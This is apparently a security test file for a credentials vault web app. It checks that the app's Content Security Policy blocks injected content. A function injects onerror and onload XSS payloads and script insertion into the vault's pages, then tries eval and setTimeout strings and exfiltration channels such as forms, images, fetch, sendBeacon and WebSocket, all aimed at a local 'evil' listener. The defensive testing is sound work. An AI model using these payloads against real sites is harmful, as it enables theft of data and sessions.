import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect } from 'vitest'
import { attackTest } from '../support/attack.ts'
import { launchBrowser, type Profile, type TestBrowser } from '../support/browser.ts'
import { createTestApp, type TestApp } from '../support/create-test-app.ts'
import { publicIdOf } from '../support/create-test-vault.ts'

// Somebody has got markup or a line of script into a page of the vault's. What could it send where?
let browser: TestBrowser
let profile: Profile
let app: TestApp
let evil: { readonly origin: string; readonly received: string[]; readonly close: () => void }
beforeAll(async () => {
  browser = await launchBrowser({ scope: 'page' })
  profile = await browser.newProfile()
  app = await createTestApp()
  evil = await listen()
})
afterAll(async () => {
  await browser.close()
  await app.close()
  evil.close()
})

/** A server that takes whatever comes. */
async function listen() {
  const received: string[] = []
  const server = createServer((request, response) => {
    received.push(`${request.method} ${request.url}`)
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('window.ran = true')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    received,
    close: () => {
      server.closeAllConnections()
      server.close()
    },
  }
}

/** Runs in the vault's page: one way out after the other. Tells how many could be tried at all. */
async function breakOut(origin: string): Promise<{ tried: number; ran: boolean }> {
  // DevTools lets what it evaluates use eval(), whatever the page's policy says; from here on it is the page's own.
  await new Promise((resolve) => setTimeout(resolve))
  const line = 'window.ran = true'
  let tried = 0
  const attempt = (how: () => unknown) => {
    tried += 1
    try {
      const made = how()
      if (made instanceof Element) document.body.append(made)
    } catch {}
  }
  const make = (tag: string, values: Record<string, string>) => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(values)) element.setAttribute(name, value)
    return element
  }
  for (const method of ['get', 'post']) {
    for (const target of ['', '_blank', 'frame']) {
      attempt(() => {
        const form = make('form', { method, target, action: `${origin}/form` }) as HTMLFormElement
        document.body.append(form)
        form.submit()
      })
    }
  }
  attempt(() => make('img', { src: `${origin}/img` }))
  attempt(() => make('iframe', { src: `${origin}/iframe`, name: 'frame' }))
  attempt(() => make('object', { data: `${origin}/object` }))
  attempt(() => make('embed', { src: `${origin}/embed` }))
  attempt(() => make('video', { src: `${origin}/video`, autoplay: '' }))
  attempt(() => make('link', { rel: 'stylesheet', href: `${origin}/style` }))
  attempt(() => make('link', { rel: 'prefetch', href: `${origin}/prefetch` }))
  attempt(() => make('link', { rel: 'manifest', href: `${origin}/manifest` }))
  attempt(() => make('base', { href: origin }))
  attempt(() => make('div', { style: `background: url(${origin}/background)` }))
  attempt(() => make('img', { src: 'x', onerror: 'window.ran = true' }))
  attempt(() => void fetch(`${origin}/fetch`).catch(() => undefined))
  attempt(() => navigator.sendBeacon(`${origin}/beacon`, 'x'))
  attempt(() => new WebSocket(origin.replace('http', 'ws')))
  attempt(() => new EventSource(`${origin}/events`))
  attempt(() => new Worker(`${origin}/worker`))
  attempt(() => {
    document.body.innerHTML += '<img src=x onerror="window.ran = true">'
  })
  attempt(() => {
    document.body.insertAdjacentHTML('beforeend', '<svg onload="window.ran = true">')
  })
  attempt(() => {
    const script = document.createElement('script')
    script.text = line
    document.body.append(script)
  })
  attempt(() => Reflect.apply(Reflect.get(window, 'eval') as () => void, window, [line]))
  attempt(() => Reflect.apply(setTimeout, window, [line]) as number)
  // Pictures of the page's own come later than all that was tried.
  for (let count = 0; count < 20; count += 1) {
    const picture = new Image()
    const settled = new Promise((resolve) => {
      for (const event of ['load', 'error']) picture.addEventListener(event, resolve)
    })
    picture.src = `/picture?${count}`
    await settled
  }
  return { tried, ran: 'ran' in window }
}

async function openConnectPage(page: Page) {
  const session = await app.vault.createConnectSession({
    user: { id: 'user-ada' },
    allowedProviders: ['slack', 'github'],
    allowedOrigin: app.origin,
  })
  await page.goto('about:blank')
  await page.goto(`${session.connectUrl}&display=page`)
  await page.locator('[data-guarded]:not([aria-disabled])').first().waitFor()
  return session
}

attackTest(
  {
    row: 'CP-12',
    name: 'injected forms, frames, pictures, styles and scripts on the vault’s pages',
    reference: 'CSP 3 (form-action, default-src), RFC 9700 §4.16; w3c/webappsec-csp#8',
  },
  async (countTry) => {
    const page = await profile.newPage()
    await page.bringToFront()
    await page.goto(`${app.origin}/login/ada`)
    // Before anything is injected, an honest flow goes through without a complaint of the browser's.
    const { connectUrl } = await openConnectPage(page)
    app.provider.control.autoConsent = 'ada'
    await page.locator('[data-guarded]').first().click()
    await page.waitForURL(/\/oauth\/callback\//)
    await expect.poll(async () => (await app.vault.listGrants()).items.length).toBe(1)
    expect(publicIdOf(connectUrl)).not.toBe('')
    expect(profile.console.filter(({ text }) => text.includes('Content Security'))).toEqual([])

    const pages = [
      () => openConnectPage(page),
      () => page.goto(`${app.origin}/alter/oauth/callback/slack?code=x&state=y`),
      () => page.goto(`${app.origin}/alter/connect/nobody`),
    ]
    for (const open of pages) {
      await open()
      const { tried, ran } = await page.evaluate(breakOut, evil.origin)
      for (let count = 0; count < tried; count += 1) countTry(false)
      countTry(ran)
      countTry(evil.received.length > 0)
    }
    // The other server is there and receives what is sent to it: this, and nothing before it.
    await page.goto(evil.origin)
    expect(evil.received[0]).toBe('GET /')
  },
)
